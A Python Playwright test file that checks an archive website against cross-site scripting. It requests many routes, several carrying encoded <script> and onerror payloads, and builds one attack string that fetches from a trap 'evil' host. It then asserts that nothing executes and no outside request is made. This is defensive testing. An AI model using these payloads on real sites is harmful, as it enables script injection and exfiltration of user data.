"""Pages that attack: nothing of theirs runs in a real browser, and no request leaves for anywhere."""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext

from tests.website import Trap

HOSTILE = 5  # the article, as tests/archive/web/conftest.py stores it
CAPTURE = 5


@pytest.mark.parametrize(
    "path",
    [
        "/",
        f"/article/{HOSTILE}",
        "/search?q=storm",
        "/search?q=%3Cscript%3Edocument.title='ran'%3C/script%3E",
        "/search?q=storm&country=%22%3E%3Cscript%3Edocument.title='ran'%3C/script%3E",
        "/months?by=theme",
        "/months?by=kind",
        "/people?q=script",
        "/offices",
        "/person?name={attack}",
        "/office?name={attack}",
        f"/raw/{CAPTURE}",
        f"/raw/{CAPTURE}/page",
        f"/raw/{CAPTURE}/source",
        "/archive/articles?_facet=lang",
        f"/archive/articles/{HOSTILE}",
        "/archive/links",
        "/archive/contacts",
        "/archive/repairs",
        "/archive?sql=select+*+from+versions",
        "/archive?sql=%3C/textarea%3E%3Cscript%3Edocument.title='ran'%3C/script%3E",
        "/nowhere/%3Cscript%3Edocument.title='ran'%3C/script%3E",
    ],
    ids=lambda path: path.split("?")[0],
)
def test_nothing_runs_and_nothing_leaves(context: BrowserContext, base: str, evil: Trap, path: str) -> None:
    attack = (
        f"<script>document.title='ran';fetch('{evil.address}/s')</script>"
        "<img src=x onerror=\"document.title='ran'\">"
    )
    asked: list[str] = []
    context.on("request", lambda request: asked.append(request.url))
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.goto(base + path.replace("{attack}", attack.replace("'", "%27").replace('"', "%22")))
    page.wait_for_timeout(150)
    assert page.title() not in ("ran", "1")
    assert [
        frame.evaluate("document.scripts.length") for frame in page.frames if frame == page.main_frame
    ] == [0]
    assert dialogs == []
    assert [url for url in asked if not url.startswith(base)] == []
    assert not evil.knocked()
